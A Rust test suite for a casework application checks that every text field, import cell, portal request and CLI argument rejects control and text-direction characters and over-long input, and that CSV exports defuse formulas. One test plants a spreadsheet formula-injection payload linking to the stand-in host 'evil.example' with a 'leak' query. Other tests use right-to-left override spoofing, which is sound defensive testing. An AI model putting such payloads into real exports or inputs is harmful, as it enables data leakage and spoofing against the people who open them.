//! Clean input everywhere: every free-text field of the API, the import,
//! the portal and the command line refuses control and text-direction
//! characters and text longer than its limit with a 422 (or a row error,
//! or a CLI error) naming the field; nothing is half-written; a refused
//! portal request is still logged; and a CSV export never hands a
//! spreadsheet a formula. On SQLite, and on PostgreSQL with
//! `CASEWORK_TEST_DATABASE_URL`.

use crate::common;

use casework::app::import::{self, Source};
use casework::app::portal;
use casework::domain::roles::Role;
use casework::domain::text::limit;
use chrono::Utc;
use common::actors::officer;
use common::cases::open_case;
use common::families::family;
use common::http::{get, post_json};
use common::{TestApp, spawn_app, sql};
use reqwest::StatusCode;
use serde_json::{Value, json};

/// The characters no field accepts, by name: C0 (with NUL), DEL, C1, and
/// the bidirectional embeddings, overrides and isolates.
const BAD: &[(&str, char)] = &[
    ("NUL", '\u{0}'),
    ("BEL", '\u{7}'),
    ("tab", '\t'),
    ("ESC", '\u{1B}'),
    ("unit separator", '\u{1F}'),
    ("DEL", '\u{7F}'),
    ("C1 padding", '\u{80}'),
    ("NEL", '\u{85}'),
    ("CSI", '\u{9B}'),
    ("LRE", '\u{202A}'),
    ("RLO", '\u{202E}'),
    ("LRI", '\u{2066}'),
    ("PDI", '\u{2069}'),
];

/// `good` with `bad` put inside it, where trimming cannot remove it.
fn spoil(good: &str, bad: char) -> String {
    let mut chars: Vec<char> = good.chars().collect();
    chars.insert(chars.len() / 2, bad);
    chars.into_iter().collect()
}

/// Sets the value at a path such as `members.0.birth_place` in `body`.
fn set(body: &mut Value, path: &str, value: Value) {
    let mut at = body;
    let parts: Vec<&str> = path.split('.').collect();
    for part in &parts[..parts.len() - 1] {
        at = match part.parse::<usize>() {
            Ok(i) => &mut at[i],
            Err(_) => &mut at[*part],
        };
    }
    at[parts[parts.len() - 1]] = value;
}

/// Asserts a 422 whose `errors` name `field`, and returns the body.
async fn assert_refused(response: reqwest::Response, field: &str, what: &str) -> Value {
    let status = response.status();
    let body: Value = response.json().await.unwrap_or(Value::Null);
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{what}: expected a 422 naming {field}, got {body}"
    );
    let fields: Vec<&str> = body["errors"]
        .as_array()
        .map(|errors| errors.iter().filter_map(|e| e["field"].as_str()).collect())
        .unwrap_or_default();
    assert!(fields.contains(&field), "{what}: {field} not in {body}");
    body
}

/// The free-text fields of a family as posted: (path in the body, the
/// field the error names, a good value, its limit).
fn family_fields() -> Vec<(&'static str, &'static str, &'static str, usize)> {
    vec![
        (
            "members.0.first_name",
            "members[0].first_name",
            "أحمد",
            limit::NAME,
        ),
        (
            "members.0.father_name",
            "members[0].father_name",
            "محمد",
            limit::NAME,
        ),
        (
            "members.1.mother_name",
            "members[1].mother_name",
            "فاطمة",
            limit::NAME,
        ),
        (
            "members.0.family_name",
            "members[0].family_name",
            "الحسن",
            limit::NAME,
        ),
        (
            "members.0.latin_first_name",
            "members[0].latin_first_name",
            "Ahmad",
            limit::NAME,
        ),
        (
            "members.0.latin_family_name",
            "members[0].latin_family_name",
            "Al-Hasan",
            limit::NAME,
        ),
        (
            "members.1.birth_place",
            "members[1].birth_place",
            "القامشلي",
            limit::PLACE,
        ),
        (
            "applicant_email",
            "applicant_email",
            "family@example.org",
            limit::EMAIL,
        ),
    ]
}

async fn count(app: &TestApp, table: &str) -> i64 {
    sql::count(app.db_url(), &format!("SELECT COUNT(*) FROM {table}")).await
}

#[tokio::test]
async fn every_free_text_field_of_a_family_refuses_every_bad_character_and_stores_nothing() {
    let app = spawn_app().await;
    for (path, field, good, _) in family_fields() {
        for (name, bad) in BAD {
            let mut body = family().json();
            set(&mut body, path, json!(spoil(good, *bad)));
            let what = format!("{name} in {field} of a new family");
            let response = post_json(&app, "/api/applications", Role::IntakeClerk, &body).await;
            assert_refused(response, field, &what).await;
        }
        // A one-line field keeps no line end inside it.
        let mut body = family().json();
        set(&mut body, path, json!(spoil(good, '\n')));
        let response = post_json(&app, "/api/applications", Role::IntakeClerk, &body).await;
        assert_refused(response, field, &format!("a line end in {field}")).await;
    }
    assert_eq!(count(&app, "applications").await, 0);
    assert_eq!(count(&app, "members").await, 0);
    assert_eq!(count(&app, "audit_events").await, 0);
}

/// The case's version and how many audit events it has.
async fn footprint(app: &TestApp, reference: &str) -> (i64, i64) {
    let case: Value = get(
        app,
        &format!("/api/applications/{reference}"),
        Role::Supervisor,
    )
    .await
    .json()
    .await
    .expect("json");
    let events = count(app, "audit_events").await;
    (case["version"].as_i64().expect("version"), events)
}

#[tokio::test]
async fn actions_edits_decisions_and_assignments_refuse_bad_characters_and_change_nothing() {
    let app = spawn_app().await;
    let reference = open_case(&app).await;
    let before = footprint(&app, &reference).await;
    let transitions = format!("/api/applications/{reference}/transitions");
    let reason = "صورة الهوية غير واضحة";
    for (name, bad) in BAD {
        // A reason and a comment may hold line ends, nothing else of C0.
        let cases = [
            (
                json!({"action": "return_to_applicant", "fields": {"reason": spoil(reason, *bad)}}),
                "fields.reason",
            ),
            (
                json!({"action": "return_to_applicant", "fields": {"reason": reason}, "comment": spoil("تم الاتصال بالأسرة", *bad)}),
                "comment",
            ),
            (
                json!({"action": "return_to_applicant", "fields": {"reason": reason, "collector_document": spoil("هوية شخصية", *bad)}}),
                "fields.collector_document",
            ),
        ];
        for (body, field) in cases {
            let response = post_json(&app, &transitions, Role::IntakeClerk, &body).await;
            assert_refused(response, field, &format!("{name} in {field}")).await;
        }

        let mut edited = family().json();
        set(
            &mut edited,
            "members.0.birth_place",
            json!(spoil("الحسكة", *bad)),
        );
        let response = app
            .client
            .put(app.url(&format!("/api/applications/{reference}")))
            .bearer_auth(app.token(Role::IntakeClerk))
            .json(&edited)
            .send()
            .await
            .expect("request");
        assert_refused(
            response,
            "members[0].birth_place",
            &format!("{name} in an edit"),
        )
        .await;

        let decision = json!({"decision": "dismiss", "comment": spoil("شخصان مختلفان", *bad)});
        let response = post_json(
            &app,
            &format!("/api/applications/{reference}/duplicates/1"),
            Role::Verifier,
            &decision,
        )
        .await;
        assert_refused(response, "comment", &format!("{name} in a decision")).await;

        let response = post_json(
            &app,
            &format!("/api/applications/{reference}/assign"),
            Role::Supervisor,
            &json!({"user": spoil("verifier.one", *bad)}),
        )
        .await;
        assert_refused(response, "user", &format!("{name} in an assignment")).await;

        let query = format!(
            "/api/applications?name={}",
            urlencode(&spoil("أحمد محمد", *bad))
        );
        let response = get(&app, &query, Role::Supervisor).await;
        assert_refused(response, "name", &format!("{name} in a name search")).await;
        let query = format!(
            "/api/applications?assignee={}",
            urlencode(&spoil("verifier.one", *bad))
        );
        let response = get(&app, &query, Role::Supervisor).await;
        assert_refused(response, "assignee", &format!("{name} in a filter")).await;
    }
    assert_eq!(
        footprint(&app, &reference).await,
        before,
        "nothing refused changed the case"
    );

    // A reason and a comment of several lines are kept as typed.
    let many = json!({
        "action": "return_to_applicant",
        "fields": {"reason": "السطر الأول\nالسطر الثاني"},
        "comment": "ملاحظة أولى\r\nملاحظة ثانية",
    });
    let response = post_json(&app, &transitions, Role::IntakeClerk, &many).await;
    assert_eq!(response.status(), StatusCode::OK);
}

/// Percent-encodes every byte of `text` for a query string.
fn urlencode(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[tokio::test]
async fn every_limit_is_enforced_at_its_length_and_not_below() {
    let app = spawn_app().await;
    // Family fields: the longest value is accepted, one more is refused.
    for (path, field, good, max) in family_fields() {
        let at_limit = longest(good, max);
        let mut body = family().json();
        set(&mut body, path, json!(at_limit));
        let response = post_json(&app, "/api/applications", Role::IntakeClerk, &body).await;
        assert_eq!(
            response.status(),
            StatusCode::CREATED,
            "{field} at its limit of {max}: {}",
            response.text().await.unwrap_or_default()
        );
        let mut body = family().json();
        set(&mut body, path, json!(longest(good, max + 1)));
        let response = post_json(&app, "/api/applications", Role::IntakeClerk, &body).await;
        assert_refused(response, field, &format!("{field} one past {max}")).await;
    }

    let reference = open_case(&app).await;
    let before = footprint(&app, &reference).await;
    let transitions = format!("/api/applications/{reference}/transitions");
    let reason = "ا".repeat(limit::REASON + 1);
    let response = post_json(
        &app,
        &transitions,
        Role::IntakeClerk,
        &json!({"action": "return_to_applicant", "fields": {"reason": reason}}),
    )
    .await;
    assert_refused(response, "fields.reason", "a reason one past its limit").await;
    // The 200 KB comment the issue found accepted.
    let response = post_json(
        &app,
        &transitions,
        Role::IntakeClerk,
        &json!({"action": "return_to_applicant", "fields": {"reason": "صورة غير واضحة"}, "comment": "x".repeat(200 * 1024)}),
    )
    .await;
    assert_refused(response, "comment", "a 200 KB comment").await;
    let response = post_json(
        &app,
        &format!("/api/applications/{reference}/duplicates/1"),
        Role::Verifier,
        &json!({"decision": "dismiss", "comment": "x".repeat(limit::COMMENT + 1)}),
    )
    .await;
    assert_refused(
        response,
        "comment",
        "a decision's comment one past its limit",
    )
    .await;
    assert_eq!(footprint(&app, &reference).await, before);

    let response = post_json(
        &app,
        &transitions,
        Role::IntakeClerk,
        &json!({
            "action": "return_to_applicant",
            "fields": {"reason": "ا".repeat(limit::REASON)},
            "comment": "x".repeat(limit::COMMENT),
        }),
    )
    .await;
    assert_eq!(response.status(), StatusCode::OK, "both at their limits");
}

/// A value of exactly `chars` characters shaped like `good`.
fn longest(good: &str, chars: usize) -> String {
    if let Some((local, domain)) = good.split_once('@') {
        let pad = chars - domain.chars().count() - 1;
        let _ = local;
        return format!("{}@{domain}", "a".repeat(pad));
    }
    let unit = good.chars().next().expect("a letter");
    unit.to_string().repeat(chars)
}

#[tokio::test]
async fn the_published_limits_are_the_enforced_ones() {
    let app = spawn_app().await;
    let document: Value = app
        .client
        .get(app.url("/openapi.json"))
        .send()
        .await
        .expect("request")
        .json()
        .await
        .expect("json");
    let schemas = &document["components"]["schemas"];
    let max = |schema: &str, property: &str| {
        schemas[schema]["properties"][property]["maxLength"]
            .as_u64()
            .unwrap_or_else(|| panic!("{schema}.{property} states no maxLength")) as usize
    };
    for (property, expected) in [
        ("first_name", limit::NAME),
        ("father_name", limit::NAME),
        ("mother_name", limit::NAME),
        ("family_name", limit::NAME),
        ("latin_first_name", limit::NAME),
        ("latin_family_name", limit::NAME),
        ("birth_place", limit::PLACE),
    ] {
        assert_eq!(max("MemberDraft", property), expected, "{property}");
    }
    assert_eq!(max("ApplicationDraft", "applicant_email"), limit::EMAIL);
    assert_eq!(max("TransitionRequest", "comment"), limit::COMMENT);
    assert_eq!(
        schemas["FieldValue"]["maxLength"].as_u64(),
        Some(limit::REASON as u64)
    );
    assert_eq!(max("DuplicateDecision", "comment"), limit::COMMENT);
    assert_eq!(max("AssignRequest", "user"), limit::ACCOUNT);
    assert_eq!(max("LookupRequest", "purpose"), limit::PURPOSE);
    assert_eq!(max("BatchRequest", "purpose"), limit::PURPOSE);
}

#[tokio::test]
async fn a_portal_request_with_a_bad_character_is_refused_and_still_logged() {
    let app = spawn_app().await;
    let key = portal::add(
        &app.engine,
        "civil-registry",
        &["naturalization-status".to_string()],
        &[],
        1000,
        None,
        Utc::now(),
    )
    .await
    .expect("the agency is added");
    let route = "/portal/v1/naturalization-status";
    let purpose = "التحقق من الجنسية لتسجيل عقد عمل";
    let mut refused = 0;
    for (name, bad) in BAD {
        let cases = [
            (
                json!({"purpose": spoil(purpose, *bad), "person": {"national_number": "10000007919"}}),
                "purpose",
            ),
            (
                json!({"purpose": purpose, "person": {"national_number": spoil("10000007919", *bad)}}),
                "person.national_number",
            ),
        ];
        for (body, field) in cases {
            let response = app
                .client
                .post(app.url(route))
                .bearer_auth(&key)
                .json(&body)
                .send()
                .await
                .expect("request");
            assert_refused(response, field, &format!("{name} in the portal's {field}")).await;
            refused += 1;
        }
    }
    let response = app
        .client
        .post(app.url(route))
        .bearer_auth(&key)
        .json(&json!({"purpose": "x".repeat(limit::PURPOSE + 1), "person": {"national_number": "10000007919"}}))
        .send()
        .await
        .expect("request");
    assert_refused(response, "purpose", "a purpose one past its limit").await;
    refused += 1;

    // Every refusal is in the log, its bad characters shown by code point.
    let log: Value = get(&app, "/api/agency-access?limit=500", Role::Auditor)
        .await
        .json()
        .await
        .expect("json");
    let items = log["items"].as_array().expect("items");
    assert_eq!(items.len(), refused, "{log}");
    assert!(
        items.iter().all(|e| e["result"] == "invalid_request"),
        "{log}"
    );
    assert!(
        items.iter().any(|e| e["purpose"]
            .as_str()
            .is_some_and(|p| p.contains("<U+0000>"))),
        "{log}"
    );
    assert!(
        items.iter().any(|e| e["subject"]
            .as_str()
            .is_some_and(|s| s.contains("<U+202E>"))),
        "{log}"
    );
}

/// A backlog file: the header and the rows given.
fn backlog(rows: &[String]) -> Source {
    let header = "reference,district,office,submitted_on,state,state_since,applicant_email,\
                  family_documents,relationship,first_name,father_name,mother_name,family_name,\
                  latin_first_name,latin_family_name,sex,birth_date,birth_place,register_number,\
                  abroad,documents";
    let mut text = String::from(header);
    for row in rows {
        text.push('\n');
        text.push_str(row);
    }
    text.push('\n');
    Source {
        name: "clean.csv".into(),
        bytes: text.into_bytes(),
    }
}

/// The cells of a good two-person family, by column.
fn good_rows() -> [Vec<String>; 2] {
    let head = "HSK-2011-100001,al_hasakah,hasakah_centre,2011-06-12,verification,2011-07-03,\
                family@example.org,application_form,head,أحمد,محمد,فاطمة العلي,الحسن,Ahmad,Al-Hasan,\
                male,1970-03-15,الحسكة,1203/45877,no,register_extract;photos";
    let spouse = "HSK-2011-100001,,,,,,,,spouse,زينب,علي,مريم حسو,عثمان,Zainab,Othman,female,\
                  1975-08-01,القامشلي,1203/45878,no,register_extract;photos";
    [
        head.split(',').map(str::to_string).collect(),
        spouse.split(',').map(str::to_string).collect(),
    ]
}

const COLUMNS: [&str; 21] = [
    "reference",
    "district",
    "office",
    "submitted_on",
    "state",
    "state_since",
    "applicant_email",
    "family_documents",
    "relationship",
    "first_name",
    "father_name",
    "mother_name",
    "family_name",
    "latin_first_name",
    "latin_family_name",
    "sex",
    "birth_date",
    "birth_place",
    "register_number",
    "abroad",
    "documents",
];

#[tokio::test]
async fn every_import_cell_refuses_bad_characters_by_line_and_column_and_the_family_whole() {
    let app = spawn_app().await;
    let importer = import::importer("import", None);
    let good = good_rows();
    for (column, name) in COLUMNS.iter().enumerate() {
        for (bad_name, bad) in BAD {
            // The head's row for the family's columns and the reference,
            // the spouse's row (line 3) for the person's own columns.
            let row = if column <= 7 { 0 } else { 1 };
            let mut rows = good.clone();
            let cell = &rows[row][column];
            rows[row][column] = if cell.is_empty() {
                bad.to_string() + "x"
            } else {
                spoil(cell, *bad)
            };
            let file: Vec<String> = rows.iter().map(|r| r.join(",")).collect();
            let report = import::import(
                &app.engine,
                &[backlog(&file)],
                &importer,
                false,
                Utc::now(),
                |_, _| {},
            )
            .await
            .unwrap_or_else(|e| panic!("{bad_name} in {name}: {e:?}"));
            let line = row as u64 + 2;
            assert!(
                report
                    .errors
                    .iter()
                    .any(|e| e.line == line && e.column.as_deref() == Some(*name)),
                "{bad_name} in {name} at line {line}: {:?}",
                report.errors
            );
            assert_eq!(report.imported, 0, "{bad_name} in {name}: {report:?}");
        }
    }
    assert_eq!(count(&app, "applications").await, 0, "nothing half-written");
    assert_eq!(count(&app, "members").await, 0);

    // The same file, clean, imports.
    let file: Vec<String> = good.iter().map(|r| r.join(",")).collect();
    let report = import::import(
        &app.engine,
        &[backlog(&file)],
        &importer,
        false,
        Utc::now(),
        |_, _| {},
    )
    .await
    .expect("the import runs");
    assert_eq!((report.imported, report.persons), (1, 2), "{report:?}");
}

#[tokio::test]
async fn names_given_on_the_command_line_refuse_bad_characters() {
    let app = spawn_app().await;
    let importer = import::importer("import", None);
    // A file name goes into the audit trail.
    let mut source = backlog(&[]);
    source.name = "back\nlog.csv".into();
    let refused = import::import(
        &app.engine,
        &[source],
        &importer,
        false,
        Utc::now(),
        |_, _| {},
    )
    .await
    .expect_err("a file name with a line end is refused");
    assert!(format!("{refused:?}").contains("\"file\""), "{refused:?}");

    for (bad_name, bad) in BAD {
        let name = spoil("supervisor.two", *bad);
        let error = casework::app::users::add(
            &app.engine,
            &name,
            &[Role::Supervisor],
            None,
            None,
            Utc::now(),
        )
        .await
        .err()
        .unwrap_or_else(|| panic!("a user name with {bad_name} is refused"));
        assert!(format!("{error:?}").contains("\"name\""), "{error:?}");
        let error = portal::add(
            &app.engine,
            &spoil("civil-registry", *bad),
            &["card-status".to_string()],
            &[],
            10,
            None,
            Utc::now(),
        )
        .await
        .err()
        .unwrap_or_else(|| panic!("an agency name with {bad_name} is refused"));
        assert!(format!("{error:?}").contains("\"name\""), "{error:?}");
        assert!(import::check_importer_name(&spoil("import", *bad)).is_err());
    }
    assert!(import::check_importer_name("import").is_ok());
    assert!(import::check_importer_name(&"i".repeat(limit::ACCOUNT + 1)).is_err());

    // The real binary says which argument, in Arabic and in English.
    let dir = common::temp_dir("clean-cli");
    let file = dir.0.join("backlog.csv");
    std::fs::write(&file, &backlog(&[]).bytes).expect("write");
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_casework"))
        .current_dir(&dir.0)
        .env("DATABASE_URL", app.db_url())
        .env("CASEWORK_LOG", "warn")
        .env_remove("CASEWORK_CONFIG")
        .args(["import", "--as", "\u{202E}tropmi"])
        .arg(&file)
        .output()
        .expect("the binary runs");
    assert_eq!(output.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("--as") && stderr.contains("U+202E") && stderr.contains("يحوي"),
        "{stderr}"
    );
    assert_eq!(count(&app, "audit_events").await, 0);
}

#[tokio::test]
async fn a_csv_export_shows_a_formula_in_an_officers_name_as_text() {
    let app = spawn_app().await;
    let name = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
    casework::app::cases::create(
        &app.engine,
        &family().draft(),
        &officer(name, Role::IntakeClerk),
        Utc::now(),
    )
    .await
    .expect("the case opens");
    let csv = get(
        &app,
        "/api/statistics/workload?format=csv",
        Role::Leadership,
    )
    .await
    .text()
    .await
    .expect("text");
    let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
    assert!(
        lines.contains(
            &"\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"click\"\")\",al_qamishli,القامشلي,0,1"
        ),
        "{csv}"
    );
    assert!(
        !csv.lines()
            .any(|l| l.starts_with('=') || l.starts_with("\"=")),
        "{csv}"
    );
}
